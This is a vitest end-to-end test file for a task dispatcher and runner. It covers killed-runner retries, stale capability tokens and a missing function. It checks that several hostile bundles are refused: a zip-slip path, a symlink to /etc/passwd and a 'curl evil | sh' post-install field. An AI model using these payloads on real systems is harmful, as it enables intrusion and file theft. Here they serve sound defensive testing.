// Failure paths end to end on real components (see harness.ts): a runner killed mid-task is reaped
// and retried with a new lease and a new capability token while the old token is refused; a
// missing function fails the attempt; hostile bundles are refused before any of their code runs.
import { spawn, type ChildProcess } from "node:child_process";
import { existsSync, mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sha256Hex } from "../../src/bundle/hash.js";
import { createLambdaInvoker } from "../../src/invoke/lambda.js";
import { reasonOf, type ConnectErrorBody } from "../rpc/harness.js";
import { craftZip, fileEntry, manifestJson, type CraftedEntry } from "../runner/harness.js";
import {
  attemptLeaseTokens,
  e2eUnavailableReason,
  eventually,
  outputsOf,
  REGION,
  startEnvironment,
  startSharedServices,
  type E2eEnvironment,
  type SharedServices,
} from "./harness.js";

const unavailable = e2eUnavailableReason();
if (unavailable) console.warn(`e2e suite skipped locally: ${unavailable}`);

const markers = mkdtempSync(join(tmpdir(), "trace-e2e-markers-"));

/** POSTs a task-scoped call as a runner would (plain HTTP/JSON). */
async function taskCall(baseUrl: string, path: string, token: string, body: unknown): Promise<{ status: number; code: string; reason: string | undefined }> {
  const response = await fetch(`${baseUrl}${path}`, {
    method: "POST",
    headers: { "content-type": "application/json", "X-Trace-Task-Capability": token },
    body: JSON.stringify(body),
  });
  const json = (await response.json()) as ConnectErrorBody & { code?: string };
  return { status: response.status, code: json.code ?? "", reason: response.ok ? undefined : reasonOf(json) };
}

/**
 * Runs the packaged handler in its own process, as one Lambda sandbox, so that it can be killed
 * mid-task together with the entrypoint it started.
 */
function runHandlerInProcess(functionDir: string, event: unknown): ChildProcess {
  const script = `import { readFileSync } from "node:fs";
const { handler } = await import(${JSON.stringify(join(functionDir, "index.mjs"))});
await handler(JSON.parse(readFileSync(0, "utf8")));`;
  const child = spawn(process.execPath, ["--input-type=module", "-e", script], {
    env: {
      PATH: process.env.PATH ?? "/usr/bin:/bin",
      TRACE_DISPATCHER_URL: process.env.TRACE_DISPATCHER_URL,
      TRACE_RUNNER_WORK_ROOT: process.env.TRACE_RUNNER_WORK_ROOT,
      TRACE_RUNNER_HEARTBEAT_MS: process.env.TRACE_RUNNER_HEARTBEAT_MS,
    },
    stdio: ["pipe", "ignore", "ignore"],
  });
  child.stdin?.end(JSON.stringify(event));
  return child;
}

describe.skipIf(unavailable !== null)("failure paths end to end", () => {
  let shared: SharedServices;
  beforeAll(async () => {
    shared = await startSharedServices();
  });
  afterAll(async () => {
    await shared?.stop();
  });

  describe("with the runner function deployed", () => {
    let env: E2eEnvironment;
    beforeAll(async () => {
      env = await startEnvironment(shared);
    });
    afterAll(async () => {
      await env?.stop();
    });

    it("reaps a runner killed mid-task and retries as attempt 2 with a new lease and a new token; the old token is refused", async () => {
      const marker = join(markers, "killed-pid");
      // Attempt 1 hangs (after recording its pid); any later attempt completes.
      const entry = `import { readFileSync, writeFileSync } from "node:fs";
const invocation = JSON.parse(readFileSync(0, "utf8"));
if (invocation.attempt === 1) {
  writeFileSync(${JSON.stringify(marker)}, String(process.pid));
  setInterval(() => {}, 1000);
} else {
  process.stdout.write(JSON.stringify({ outputs: [{ name: "attempt", value: String(invocation.attempt) }] }));
}
`;
      const bundle = await env.addBundle({ "main.mjs": entry }, { runtime: "node", entrypoint: "main.mjs" });
      const job = await env.addJob({ name: "killed", bundleSha256: bundle.sha256, leaseTtlSeconds: 2, maxAttempts: 3, retryBaseSeconds: 1 });

      const sandboxes: ChildProcess[] = [];
      env.behaviour = async (event) => {
        if (event.attempt !== 1) return env.runHandler(event);
        sandboxes.push(runHandlerInProcess(env.runner.functionDir, event));
        return undefined;
      };
      try {
        const task = await env.createTask(job.jobId);
        await eventually(() => existsSync(marker) && readFileSync(marker, "utf8").length > 0, "attempt 1's entrypoint to start");
        const entrypointPid = Number(readFileSync(marker, "utf8"));
        // The sandbox dies: the runner and everything it started, without a word to the Dispatcher.
        const sandbox = sandboxes[0];
        expect(sandbox?.pid).toBeGreaterThan(0);
        const exited = new Promise((r) => sandbox?.once("exit", r));
        sandbox?.kill("SIGKILL");
        process.kill(-entrypointPid, "SIGKILL");
        await exited;

        const done = await env.settled(task.taskId);
        expect(done.task.state).toBe("COMPLETED");
        expect(done.task.attempt).toBe(2);
        expect(done.attempts.map((a) => [a.attempt, a.outcome])).toEqual([
          [1, "timed_out"],
          [2, "completed"],
        ]);
        expect(await outputsOf(env.app, task.taskId)).toEqual([{ attempt: 2, name: "attempt", value: "2" }]);

        const [first, second] = env.invokesOf(task.taskId).map((i) => i.payload);
        expect(env.invokesOf(task.taskId)).toHaveLength(2);
        expect([first?.attempt, second?.attempt]).toEqual([1, 2]);
        expect(second?.lease_token).not.toBe(first?.lease_token);
        expect(second?.capability_token).not.toBe(first?.capability_token);
        expect(await attemptLeaseTokens(env.app, task.taskId)).toEqual([first?.lease_token, second?.lease_token]);

        // The attempt-1 token is still unexpired, and still refused: its attempt is not current.
        const oldToken = String(first?.capability_token);
        const stale = await taskCall(env.app.url, "/v1/task/heartbeat", oldToken, { task_id: task.taskId, attempt: 1, lease_token: first?.lease_token });
        expect(stale).toEqual({ status: 400, code: "failed_precondition", reason: "stale_attempt" });
        // Nor can it speak for attempt 2: the body must match the token's claims.
        const borrowed = await taskCall(env.app.url, "/v1/task/heartbeat", oldToken, { task_id: task.taskId, attempt: 2, lease_token: second?.lease_token });
        expect(borrowed).toMatchObject({ status: 403, code: "permission_denied" });
        // A late completion with the old token commits nothing.
        const late = await taskCall(env.app.url, "/v1/task/complete", oldToken, {
          task_id: task.taskId,
          attempt: 1,
          lease_token: first?.lease_token,
          status: "TASK_STATUS_COMPLETED",
        });
        expect(late).toEqual({ status: 400, code: "failed_precondition", reason: "stale_attempt" });
        expect((await env.task(task.taskId)).attempts.map((a) => a.outcome)).toEqual(["timed_out", "completed"]);
      } finally {
        env.behaviour = env.runHandler;
        for (const sandbox of sandboxes) if (sandbox.exitCode === null) sandbox.kill("SIGKILL");
      }
    });

    const ENTRY = "main.mjs";
    let markerCount = 0;
    const hostile: { name: string; zip: (code: string) => Uint8Array; claimed?: (zip: Uint8Array) => string; category: string; reason: string }[] = [
      {
        name: "a zip-slip entry",
        zip: (code) =>
          craftZip([
            { name: "bundle_manifest.json", data: manifestJson({ files: [fileEntry(ENTRY, code)] }) },
            { name: ENTRY, data: code },
            { name: "../../escaped.mjs", data: code },
          ]),
        category: "bundle_rejected",
        reason: "entry_unsafe_path",
      },
      {
        name: "an undeclared file",
        zip: (code) =>
          craftZip([{ name: "bundle_manifest.json", data: manifestJson({ files: [fileEntry(ENTRY, code)] }) }, { name: ENTRY, data: code }, { name: "extra.txt", data: "x" }]),
        category: "bundle_rejected",
        reason: "entry_undeclared",
      },
      {
        name: "a symlink",
        zip: (code) =>
          craftZip([
            { name: "bundle_manifest.json", data: manifestJson({ files: [fileEntry(ENTRY, code), fileEntry("passwd", "/etc/passwd")] }) },
            { name: ENTRY, data: code },
            { name: "passwd", data: "/etc/passwd", unixMode: 0o120777 } satisfies CraftedEntry,
          ]),
        category: "bundle_rejected",
        reason: "entry_not_regular_file",
      },
      {
        name: "an unknown manifest field",
        zip: (code) => craftZip([{ name: "bundle_manifest.json", data: manifestJson({ files: [fileEntry(ENTRY, code)], post_install: "curl evil | sh" }) }, { name: ENTRY, data: code }]),
        category: "bundle_rejected",
        reason: "manifest_invalid",
      },
      {
        name: "a zip tampered after its bundle_sha256 was registered",
        zip: (code) => craftZip([{ name: "bundle_manifest.json", data: manifestJson({ files: [fileEntry(ENTRY, code)] }) }, { name: ENTRY, data: code }]),
        claimed: (zip) => {
          const registered = sha256Hex(zip);
          zip[zip.length - 30] = (zip[zip.length - 30] ?? 0) ^ 0xff;
          return registered;
        },
        category: "bundle_hash_mismatch",
        reason: "bundle bytes do not match bundle_sha256",
      },
    ];

    it.each(hostile)("refuses $name before any code runs", async ({ zip, claimed, category, reason }) => {
      const marker = join(markers, `hostile-${++markerCount}`);
      const workRoot = String(process.env.TRACE_RUNNER_WORK_ROOT);
      const workDirsBefore = readdirSync(workRoot);
      const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(marker)}, "ran");\nconsole.log("{}");\n`;
      const bytes = zip(code);
      const sha = claimed ? claimed(bytes) : sha256Hex(bytes);
      const bundle = await env.addRawBundle(bytes, sha);
      const job = await env.addJob({ name: `hostile_${markerCount}`, bundleSha256: bundle.sha256 });
      const task = await env.createTask(job.jobId);

      const done = await env.settled(task.taskId);
      expect(done.task.state).toBe("FAILED");
      // Refusals are not retryable: the same bytes would be refused again.
      expect(done.task.nextRetryAt).toBeNull();
      expect(done.attempts.map((a) => a.outcome)).toEqual(["failed"]);
      expect(done.task.lastError).toMatch(new RegExp(`^${category}: .*${reason.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`));
      expect(existsSync(marker)).toBe(false);
      // Nothing was left behind, nor written outside the private work directory.
      expect(readdirSync(workRoot)).toEqual(workDirsBefore);
      expect(existsSync(join(workRoot, "..", "escaped.mjs"))).toBe(false);
    });
  });

  describe("with no such function", () => {
    let env: E2eEnvironment;
    beforeAll(async () => {
      // The real SDK invoker, aimed at a function the Lambda service does not have.
      env = await startEnvironment(shared, {
        invoker: () => createLambdaInvoker({ functionName: "no-such-runner", region: REGION, endpoint: shared.lambda.url }),
      });
    });
    afterAll(async () => {
      await env?.stop();
    });

    it("fails the attempt as invoke_failed and follows the retry policy", async () => {
      const bundle = await env.addBundle({ "main.mjs": `console.log("{}")` }, { runtime: "node", entrypoint: "main.mjs" });
      const job = await env.addJob({ name: "missing_function", bundleSha256: bundle.sha256, maxAttempts: 2, retryBaseSeconds: 1 });
      const task = await env.createTask(job.jobId);
      const done = await env.settled(task.taskId);
      expect(done.task.state).toBe("FAILED");
      expect(done.task.nextRetryAt).toBeNull();
      expect(done.attempts.map((a) => [a.attempt, a.outcome, a.error])).toEqual([
        [1, "invoke_failed", "ResourceNotFoundException (HTTP 404)"],
        [2, "invoke_failed", "ResourceNotFoundException (HTTP 404)"],
      ]);
      const invokes = shared.lambda.invokes.filter((i) => (JSON.parse(i.body) as { task_id?: string }).task_id === task.taskId);
      expect(invokes.map((i) => [i.functionName, i.invocationType])).toEqual([
        ["no-such-runner", "Event"],
        ["no-such-runner", "Event"],
      ]);
      // The outbox delivered each invoke once; a definitive error is not an outbox retry.
      const outbox = await env.app.db.query(`SELECT attempt, status, tries FROM outbox WHERE kind = 'invoke' AND task_id = $1 ORDER BY attempt`, [task.taskId]);
      expect(outbox.map((r) => [r.attempt, r.status])).toEqual([
        [1, "done"],
        [2, "done"],
      ]);
      expect(env.runs).toHaveLength(0);
    });
  });
});
